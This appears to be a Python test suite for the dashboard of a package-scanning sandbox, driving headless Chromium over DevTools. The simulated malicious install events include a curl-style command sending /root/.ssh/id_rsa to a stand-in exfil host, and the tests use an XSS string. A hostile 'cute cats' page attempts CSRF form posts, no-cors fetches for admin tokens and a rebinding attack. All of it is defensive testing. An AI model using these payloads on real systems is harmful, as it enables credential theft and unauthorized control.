"""
The dashboard in Debian's headless Chromium, driven over the DevTools
protocol, against a real C{twistd fangs-orchestrator} on loopback filled
through its HTTP API with a realistic scenario (a baseline run, a clean run,
two runs with deviations).

Every page is visited with no console error, no uncaught exception, no CSP
violation and no failed request; a pending run is promoted and another
rejected through the buttons (confirm dialogs accepted), and the verdicts
change on the page and in the API.  Screenshots land in build/screenshots/.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile
import threading
import time
import urllib.request
from typing import Any, Callable, Dict, List, Optional

from twisted.internet.defer import Deferred
from twisted.internet.threads import deferToThread
from twisted.trial.unittest import TestCase

from fangs import wire
from fangs.orchestrator.watcher import scanRequest
from tests import prereq
from tests.procs import REPO, OrchestratorProcess, httpClient, sleep

CHROMIUM = os.environ.get("FANGS_CHROMIUM", "/usr/bin/chromium")
SCREENSHOTS = os.path.join(REPO, "build", "screenshots")
CHROMIUM_FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--no-first-run", "--disable-quic", "--no-default-browser-check", "--disable-extensions",
    "--remote-debugging-port=0", "--window-size=1440,900",
]


# ---------------------------------------------------------------------------
# A small blocking DevTools-protocol client (run it in a thread)


class Browser:
    """
    One headless Chromium with one page, over the browser's DevTools
    websocket (flattened sessions).  Collects console errors, exceptions,
    log errors (CSP violations among them) and failed requests; accepts
    every C{confirm()} dialog.
    """

    def __init__(self, executable: str = CHROMIUM, extraFlags: Optional[List[str]] = None) -> None:
        import websocket  # websocket-client

        self.profile = tempfile.mkdtemp(prefix="fangs-chromium-")
        self.proc = subprocess.Popen(
            [executable, *CHROMIUM_FLAGS, *(extraFlags or []), "--user-data-dir=" + self.profile, "about:blank"],
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True,
        )
        url = self._devtoolsURL()
        self.ws = websocket.create_connection(url, timeout=60, suppress_origin=True, enable_multithread=True)
        self._id = 0
        self._lock = threading.Lock()
        self.events: List[Dict[str, Any]] = []
        self.problems: List[str] = []
        self.dialogs: List[str] = []
        target = self.call("Target.createTarget", url="about:blank")["targetId"]
        self.session = self.call("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
        for domain in ("Page", "Runtime", "Network", "Log"):
            self.call(domain + ".enable", session=True)
        self.call("Emulation.setDeviceMetricsOverride", session=True, width=1440, height=900, deviceScaleFactor=1, mobile=False)

    def _devtoolsURL(self) -> str:
        deadline = time.monotonic() + 30
        assert self.proc.stderr is not None
        seen = []
        while time.monotonic() < deadline:
            line = self.proc.stderr.readline().decode("utf-8", "replace")
            if not line:
                if self.proc.poll() is not None:
                    break
                continue
            seen.append(line)
            if "DevTools listening on " in line:
                # Keep draining stderr so Chromium never blocks on a full pipe.
                threading.Thread(target=self._drain, daemon=True).start()
                return line.split("DevTools listening on ", 1)[1].strip()
        raise AssertionError("Chromium did not start:\n" + "".join(seen))

    def _drain(self) -> None:
        assert self.proc.stderr is not None
        for _ in iter(self.proc.stderr.readline, b""):
            pass

    # -- protocol ----------------------------------------------------------------

    def _send(self, method: str, params: Dict[str, Any], session: bool) -> int:
        with self._lock:
            self._id += 1
            msg: Dict[str, Any] = {"id": self._id, "method": method, "params": params}
            if session:
                msg["sessionId"] = self.session
            self.ws.send(json.dumps(msg))
            return self._id

    def call(self, method: str, session: bool = False, **params: Any) -> Dict[str, Any]:
        want = self._send(method, params, session)
        while True:
            msg = self._receive()
            if msg.get("id") == want:
                if "error" in msg:
                    raise AssertionError("%s failed: %s" % (method, msg["error"]))
                return msg.get("result", {})

    def _receive(self) -> Dict[str, Any]:
        msg = json.loads(self.ws.recv())
        if "method" in msg:
            self._event(msg)
        return msg

    def _event(self, msg: Dict[str, Any]) -> None:
        self.events.append(msg)
        method, p = msg["method"], msg.get("params", {})
        if method == "Page.javascriptDialogOpening":
            self.dialogs.append(p.get("message", ""))
            self._send("Page.handleJavaScriptDialog", {"accept": True}, True)
        elif method == "Runtime.consoleAPICalled" and p.get("type") in ("error", "assert"):
            self.problems.append("console.%s: %s" % (p["type"], " ".join(str(a.get("value", a.get("description"))) for a in p.get("args", []))))
        elif method == "Runtime.exceptionThrown":
            self.problems.append("exception: %s" % (p.get("exceptionDetails", {}).get("exception", {}).get("description")
                                                    or p.get("exceptionDetails", {}).get("text"),))
        elif method == "Log.entryAdded" and p.get("entry", {}).get("level") == "error":
            e = p["entry"]
            self.problems.append("log %s: %s %s" % (e.get("source"), e.get("text"), e.get("url", "")))
        elif method == "Network.loadingFailed" and not p.get("canceled"):
            self.problems.append("request failed: %s %s" % (p.get("errorText"), p.get("requestId")))
        elif method == "Network.responseReceived" and p.get("response", {}).get("status", 0) >= 400:
            r = p["response"]
            self.problems.append("HTTP %s for %s" % (r.get("status"), r.get("url")))

    def waitFor(self, predicate: Callable[[Dict[str, Any]], bool], timeout: float = 30.0, since: Optional[int] = None) -> Dict[str, Any]:
        start = len(self.events) if since is None else since
        deadline = time.monotonic() + timeout
        for msg in self.events[start:]:
            if predicate(msg):
                return msg
        self.ws.settimeout(1.0)
        try:
            while time.monotonic() < deadline:
                try:
                    msg = self._receive()
                except Exception as e:  # websocket timeout: look again
                    if type(e).__name__ != "WebSocketTimeoutException":
                        raise
                    continue
                if "method" in msg and predicate(msg):
                    return msg
        finally:
            self.ws.settimeout(60)
        raise AssertionError("timed out waiting in the browser")

    # -- page helpers ----------------------------------------------------------------

    def loaded(self) -> Callable[[Dict[str, Any]], bool]:
        return lambda m: m["method"] == "Page.loadEventFired"

    def navigate(self, url: str) -> None:
        mark = len(self.events)
        self.call("Page.navigate", session=True, url=url)
        self.waitFor(self.loaded(), since=mark)

    def evaluate(self, expression: str) -> Any:
        r = self.call("Runtime.evaluate", session=True, expression=expression, returnByValue=True, awaitPromise=True)
        if "exceptionDetails" in r:
            raise AssertionError("evaluation failed: %s" % (r["exceptionDetails"],))
        return r["result"].get("value")

    def clickAndWait(self, selector: str) -> None:
        found = self.evaluate("!!document.querySelector(%s)" % (json.dumps(selector),))
        assert found, "no element %s on %s" % (selector, self.evaluate("location.href"))
        mark = len(self.events)
        self._send("Runtime.evaluate", {"expression": "document.querySelector(%s).click()" % (json.dumps(selector),)}, True)
        self.waitFor(self.loaded(), since=mark)

    def idle(self, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        try:
            self.waitFor(lambda m: time.monotonic() > deadline, timeout=seconds + 1)
        except AssertionError:
            pass

    def screenshot(self, path: str, fullPage: bool = True) -> None:
        params: Dict[str, Any] = {"format": "png"}
        if fullPage:
            metrics = self.call("Page.getLayoutMetrics", session=True)
            size = metrics.get("cssContentSize") or metrics["contentSize"]
            params["clip"] = {"x": 0, "y": 0, "width": 1440, "height": min(max(size["height"], 900), 4000), "scale": 1}
            params["captureBeyondViewport"] = True
        import base64

        data = self.call("Page.captureScreenshot", session=True, **params)["data"]
        with open(path, "wb") as f:
            f.write(base64.b64decode(data))

    def close(self) -> None:
        try:
            self.ws.close()
        except Exception:
            pass
        if self.proc.poll() is None:
            os.killpg(self.proc.pid, 15)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, 9)
                self.proc.wait(timeout=10)
        shutil.rmtree(self.profile, ignore_errors=True)


# ---------------------------------------------------------------------------
# A realistic scenario, through the orchestrator's HTTP API


def _hdr(ts: int, pid: int, ppid: int, etype: int, tags: int = 0) -> Dict[str, Any]:
    return {"TsNs": ts, "CgroupID": 4242, "PID": pid, "TID": pid, "PPID": ppid, "UID": 0, "GID": 0, "Type": etype, "Tags": tags}


def installEvents(malicious: int = 0) -> List[Dict[str, Any]]:
    """
    An npm install: npm runs C{sh -c "node install.js"}, which reads its
    package and talks to the registry.  A malicious variant's install
    script spawns a curl-like helper that reads the SSH key and sends it
    out (DNS, connect, TLS SNI).
    """
    t = 1_000_000_000
    ev: List[Dict[str, Any]] = []

    def add(etype: int, pid: int, ppid: int, tags: int = 0, **payload: Any) -> None:
        nonlocal t
        t += 1000
        ev.append({"type": etype, "payload": dict(payload, Header=_hdr(t, pid, ppid, etype, tags))})

    add(2, 4000, 3990, BinaryPathStr="/bin/sh", ArgvStrs=["sh", "-c", "node install.js"], CommStr="sh")
    add(2, 4001, 4000, BinaryPathStr="/usr/bin/node", ArgvStrs=["node", "install.js"], CommStr="node")
    for path in ["/etc/hostname", "/etc/ssl/certs/ca-certificates.crt", "/tmp/t/node_modules/left-pad/package.json",
                 "/tmp/t/node_modules/left-pad/index.js", "/usr/lib/x86_64-linux-gnu/libc.so.6"]:
        add(1, 4001, 4000, PathName=path, Flags=0, CommStr="node")
    add(4, 4001, 4000, QName="registry.npmjs.org", QType=1, DestIP="127.0.0.11", DestPort=53, CommStr="node")
    add(3, 4001, 4000, Family=2, DestIP="104.16.3.35", DestPort=443, CommStr="node")
    add(5, 4001, 4000, SNI="registry.npmjs.org", Source=3, CommStr="node")
    if malicious:
        add(2, 4002, 4001, BinaryPathStr="/usr/bin/curl-helper",
            ArgvStrs=["curl-helper", "-d", "@/root/.ssh/id_rsa", "https://exfil%d.fangs-test.invalid/" % (malicious,)],
            CommStr="curl-helper")
        add(1, 4002, 4001, tags=3, PathName="/root/.ssh/id_rsa", Flags=0, CommStr="curl-helper")
        add(4, 4002, 4001, QName="exfil%d.fangs-test.invalid" % (malicious,), QType=1, DestIP="127.0.0.11", DestPort=53,
            CommStr="curl-helper")
        add(3, 4002, 4001, Family=2, DestIP="127.0.0.%d" % (10 + malicious,), DestPort=4444 + malicious, CommStr="curl-helper")
        add(5, 4002, 4001, SNI="c2-%d.fangs-test.invalid" % (malicious,), Source=3, CommStr="curl-helper")
        if malicious == 1:
            add(1, 4002, 4001, PathName="/tmp/<script>alert(1)</script>", Flags=577, CommStr="curl-helper")
    return ev


class Scenario:
    def __init__(self, client: Any, url: str) -> None:
        self.client = client
        self.url = url

    async def call(self, method: str, path: str, body: Any = None, raw: Optional[bytes] = None) -> Any:
        data = raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
        headers = None
        if data is not None:
            headers = {"Content-Type": ["application/x-ndjson" if path.endswith("/events") else "application/json"]}
        r = await self.client.request(method, self.url + path, data=data, headers=headers)
        content = await r.content()
        assert r.code < 300, (method, path, r.code, content[:500])
        return json.loads(content) if content.strip() else None

    async def scan(self, events: List[Dict[str, Any]], package: str = "left-pad", version: str = "1.3.0") -> str:
        queued = await self.call("POST", "/v1/scans", {"target_runner": "runner-a", "Job": {
            "kind": "sandbox_scan", "package_name": package, "version": version, "sandbox": {"image": "fangs-sandbox/node:20"}}})
        runID = queued["run_id"]
        await self.call("GET", "/v1/runners/runner-a/jobs")
        half = len(events) // 2
        body = b"".join(json.dumps({"seq": i + 1, "events": chunk}).encode() + b"\n"
                        for i, chunk in enumerate([events[:half], events[half:]]))
        await self.call("POST", "/v1/runs/%s/events" % (runID,), raw=body)
        await self.call("POST", "/v1/runs/%s/result" % (runID,),
                        {"status": "ok", "events_emitted": len(events), "events_dropped": 0, "duration": 4_200_000_000})
        for _ in range(100):
            run = await self.call("GET", "/v1/runs/" + runID)
            if run["verdict"]:
                return runID
            await sleep(0.05)
        raise AssertionError("run %s was never analysed" % (runID,))

    async def fill(self) -> Dict[str, str]:
        await self.call("POST", "/v1/runners/register", {
            "runner_id": "runner-a", "proto_version": 1, "hostname": "sandbox-host-1",
            "kernel_version": "6.18.0-fangs", "capabilities": ["sandbox_scan"]})
        await self.call("POST", "/v1/packages", {"name": "left-pad"})
        runs = {
            "baseline": await self.scan(installEvents()),
            "clean": await self.scan(installEvents(), version="1.3.1"),
            "bad1": await self.scan(installEvents(1), version="1.3.2"),
            "bad2": await self.scan(installEvents(2), version="1.3.3"),
            "scoped": await self.scan(installEvents(), package="@acme/widget", version="2.0.0"),
        }
        await self.call("POST", "/v1/runners/runner-a/heartbeat", {"status": "idle"})
        return runs


# ---------------------------------------------------------------------------


class BrowserTests(TestCase):
    timeout = 300

    def setUp(self) -> None:
        if not os.path.exists(CHROMIUM):
            prereq.missing("Chromium is not installed at %s; run `make setup`" % (CHROMIUM,))
        try:
            import websocket  # noqa: F401
        except ImportError:
            prereq.missing("websocket-client is not installed; run `make setup`")

    def test_dashboard(self) -> Deferred:
        return Deferred.fromCoroutine(self._dashboard())

    async def _dashboard(self) -> None:
        client = httpClient(self)
        orch = OrchestratorProcess(self, extra=["--watch-interval", "0", "--auth", "none"])
        await orch.startAndWait(client)
        scenario = Scenario(client, orch.url)
        runs = await scenario.fill()
        verdicts = {k: (await scenario.call("GET", "/v1/runs/" + v))["verdict"] for k, v in runs.items()}
        self.assertEqual(verdicts, {"baseline": "baseline", "clean": "clean", "bad1": "deviations",
                                    "bad2": "deviations", "scoped": "baseline"})
        os.makedirs(SCREENSHOTS, exist_ok=True)
        browser = await deferToThread(Browser)
        self.addCleanup(lambda: deferToThread(browser.close))
        outcome = await deferToThread(self._drive, browser, orch.url, runs)
        self.assertEqual(browser.problems, [], "\n".join(browser.problems))
        self.assertEqual(len(browser.dialogs), 2, browser.dialogs)
        self.assertEqual(outcome["promoted"], "baseline")
        self.assertEqual(outcome["rejected"], "rejected")
        self.assertEqual((await scenario.call("GET", "/v1/runs/" + runs["bad1"]))["verdict"], "baseline")
        self.assertEqual((await scenario.call("GET", "/v1/runs/" + runs["bad2"]))["verdict"], "rejected")
        self.assertEqual((await scenario.call("GET", "/v1/pending"))["runs"], [])

    def _drive(self, b: Browser, base: str, runs: Dict[str, str]) -> Dict[str, str]:
        """
        The blocking browser session (in a thread).
        """
        pages = ["/", "/ui/packages", "/ui/packages/left-pad", "/ui/packages/@acme/widget", "/ui/runs",
                 "/ui/runs?verdict=deviations", "/ui/deviations", "/ui/deviations?severity=critical", "/ui/allowlist",
                 "/ui/notifiers", "/ui/config", "/ui/pending"]
        pages += ["/ui/runs/%s" % (r,) for r in runs.values()]
        pages += ["/ui/runs/%s?type=exec" % (runs["bad1"],)]
        for path in pages:
            b.navigate(base + path)
            title = b.evaluate("document.title")
            assert title.startswith("FANGS — ") and "Error" not in title, (path, title)
            assert "<script>alert" not in b.evaluate("document.body.innerHTML")
        # The escaped payload shows as text, never as markup.
        b.navigate(base + "/ui/runs/" + runs["bad1"])
        assert "/tmp/<script>alert(1)</script>" in b.evaluate("document.body.innerText")
        assert b.evaluate("document.querySelectorAll('script').length") == 1
        # The process tree opens the evidence chain: sh -> node -> curl-helper.
        opened = b.evaluate("Array.from(document.querySelectorAll('details.proc[open]')).map(d => d.dataset.pid)")
        assert opened == ["4000", "4001", "4002"], opened
        b.screenshot(os.path.join(SCREENSHOTS, "run-detail.png"))
        # Evidence links reveal their item.
        b.evaluate("document.querySelector('a[href^=\"#ev-\"]').click()")
        assert b.evaluate("!!document.querySelector('.focus')")

        # The overview refreshes itself in place.
        b.navigate(base + "/ui/")
        b.idle(6.5)
        assert b.evaluate("document.getElementById('overview-live').dataset.refreshed") is not None, "overview did not refresh"
        widths = b.evaluate("Array.from(document.querySelectorAll('.stack .seg')).map(s => s.style.width)")
        assert widths and all(w.endswith("%") for w in widths), widths
        b.screenshot(os.path.join(SCREENSHOTS, "overview.png"))
        # ... and at once when the run stream says a run moved (the fallback poll is a minute away now).
        assert b.evaluate("document.getElementById('overview-live').dataset.stream") == "open", "no run stream"
        before = b.evaluate("document.getElementById('overview-live').dataset.refreshed")
        queued = json.loads(wire.dumps(scanRequest("left-pad", "9.9.9", 10 * wire.SECOND, "runner-a")))
        req = urllib.request.Request(base + "/v1/scans", data=json.dumps(queued).encode(),
                                     headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=10).read()
        b.idle(2.0)
        after = b.evaluate("document.getElementById('overview-live').dataset.refreshed")
        assert after is not None and after != before, "the run stream did not refresh the overview"

        b.navigate(base + "/ui/pending")
        assert b.evaluate("document.querySelectorAll('section.review').length") == 2
        b.screenshot(os.path.join(SCREENSHOTS, "pending.png"))
        b.clickAndWait('button[data-action="promoted"][data-run="%s"]' % (runs["bad1"],))
        promoted = b.evaluate("document.getElementById('verdict').innerText.trim()")
        flash = b.evaluate("(document.getElementById('flash') || {}).innerText")
        assert flash and "Promoted" in flash, flash

        b.navigate(base + "/ui/pending")
        assert b.evaluate("document.querySelectorAll('section.review').length") == 1
        b.clickAndWait('button[data-action="rejected"][data-run="%s"]' % (runs["bad2"],))
        rejected = b.evaluate("document.getElementById('verdict').innerText.trim()")
        b.navigate(base + "/ui/pending")
        assert "Nothing waits for review" in b.evaluate("document.body.innerText")
        b.navigate(base + "/ui/runs")
        shown = b.evaluate("Object.fromEntries(Array.from(document.querySelectorAll('tr[data-run]')).map(r => [r.dataset.run, r.querySelector('.verdict .badge').innerText]))")
        assert shown[runs["bad1"]] == "baseline" and shown[runs["bad2"]] == "rejected", shown
        return {"promoted": promoted, "rejected": rejected}


# ---------------------------------------------------------------------------
# A hostile page in the same browser


ATTACK_PAGE = """<!doctype html><html><head><title>cute cats</title></head><body>
<form id="f1" method="POST" action="%(base)s/v1/tokens" enctype="text/plain" target="sink">
<input name='{"name":"evil-form","scopes":["orchestrator:admin"],"pad":"' value='"}'></form>
<form id="f2" method="POST" action="%(base)s/v1/allow" enctype="application/x-www-form-urlencoded" target="sink2">
<input name="kind" value="path"><input name="value" value="/root/.ssh/"></form>
<iframe name="sink"></iframe><iframe name="sink2"></iframe>
<script>
async function attack() {
  const base = "%(base)s";
  const out = [];
  const tries = [
    [base + "/v1/allow", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
                          body: JSON.stringify({kind: "path", value: "/root/.aws/"})}],
    [base + "/v1/packages", {method: "POST", mode: "no-cors", body: new Blob([JSON.stringify({name: "evil-pkg"})])}],
    [base + "/v1/notifiers", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
                              body: JSON.stringify({name: "exfil", url: "https://evil.example/"})}],
    [base + "/v1/runs/%(run)s/cancel", {method: "POST", mode: "no-cors"}],
    [base + "/v1/tokens", {method: "POST", headers: {"Content-Type": "application/json"},
                           body: JSON.stringify({name: "evil-cors", scopes: ["orchestrator:admin"]})}],
  ];
  for (const [url, opts] of tries) {
    try { await fetch(url, opts); out.push("sent"); } catch (e) { out.push("blocked"); }
  }
  document.getElementById("f1").submit();
  document.getElementById("f2").submit();
  return out;
}
</script></body></html>"""


class CrossSiteTests(TestCase):
    """
    A page on another site (a name Chromium resolves to loopback) attacks an
    orchestrator running with --auth none: text/plain and urlencoded forms,
    no-cors fetches, a CORS fetch; then the same page rebinds its own name
    to the orchestrator.  Nothing changes, and a rebound Host is refused.
    """

    timeout = 120

    def setUp(self) -> None:
        BrowserTests.setUp(self)  # type: ignore[arg-type]

    def test_crossSiteAndRebinding(self) -> Deferred:
        return Deferred.fromCoroutine(self._crossSite())

    async def _crossSite(self) -> None:
        from twisted.internet import reactor
        from twisted.web.resource import Resource
        from twisted.web.server import Site

        client = httpClient(self)
        orch = OrchestratorProcess(self, extra=["--watch-interval", "0", "--auth", "none"])
        await orch.startAndWait(client)
        scenario = Scenario(client, orch.url)
        await scenario.call("POST", "/v1/runners/register", {"runner_id": "runner-a", "proto_version": 1})
        queued = await scenario.call("POST", "/v1/scans", {"target_runner": "runner-a", "Job": {
            "kind": "sandbox_scan", "package_name": "left-pad", "version": "1.3.0", "sandbox": {}}})

        page = (ATTACK_PAGE % {"base": orch.url, "run": queued["run_id"]}).encode()

        class Attacker(Resource):
            isLeaf = True

            def render_GET(self, request: Any) -> bytes:
                request.setHeader(b"Content-Type", b"text/html; charset=utf-8")
                return page

        listening = reactor.listenTCP(0, Site(Attacker()), interface="127.0.0.1")
        self.addCleanup(listening.stopListening)
        attackerURL = "http://attacker.test:%d/" % (listening.getHost().port,)
        rules = "--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1"
        browser = await deferToThread(Browser, CHROMIUM, [rules])
        self.addCleanup(lambda: deferToThread(browser.close))

        def drive() -> Dict[str, Any]:
            browser.navigate(attackerURL)
            assert browser.evaluate("document.title") == "cute cats"
            sent = browser.evaluate("attack()")
            browser.idle(2.0)
            # Rebinding: the attacker's own name now points at the orchestrator.
            rebound = orch.url.replace("127.0.0.1", "rebind.test")
            browser.navigate(rebound + "/v1/runs")
            readText = browser.evaluate("document.body.innerText")
            status = browser.evaluate(
                "fetch('/v1/packages', {method: 'POST', headers: {'Content-Type': 'application/json'},"
                " body: JSON.stringify({name: 'rebound-pkg'})}).then(r => r.status)"
            )
            return {"sent": sent, "read": readText, "status": status}

        outcome = await deferToThread(drive)
        self.assertEqual(len(outcome["sent"]), 5, outcome)
        self.assertIn("unknown_host", outcome["read"])
        self.assertNotIn('"runs"', outcome["read"])
        self.assertEqual(outcome["status"], 403)
        tokens = await scenario.call("GET", "/v1/tokens")
        self.assertEqual(tokens["tokens"], [])
        allow = await scenario.call("GET", "/v1/allow")
        self.assertEqual([e for e in allow["entries"] if e["source"] == "operator"], [])
        self.assertEqual((await scenario.call("GET", "/v1/packages"))["packages"], [])
        self.assertEqual((await scenario.call("GET", "/v1/notifiers"))["notifiers"], [])
        run = await scenario.call("GET", "/v1/runs/" + queued["run_id"])
        self.assertFalse(run["cancel_requested"])
        self.assertEqual(run["state"], "pending")
        # The orchestrator's log names each refusal.
        log = orch.log()
        self.assertIn("cross_origin", log)
        self.assertIn("unknown_host", log)
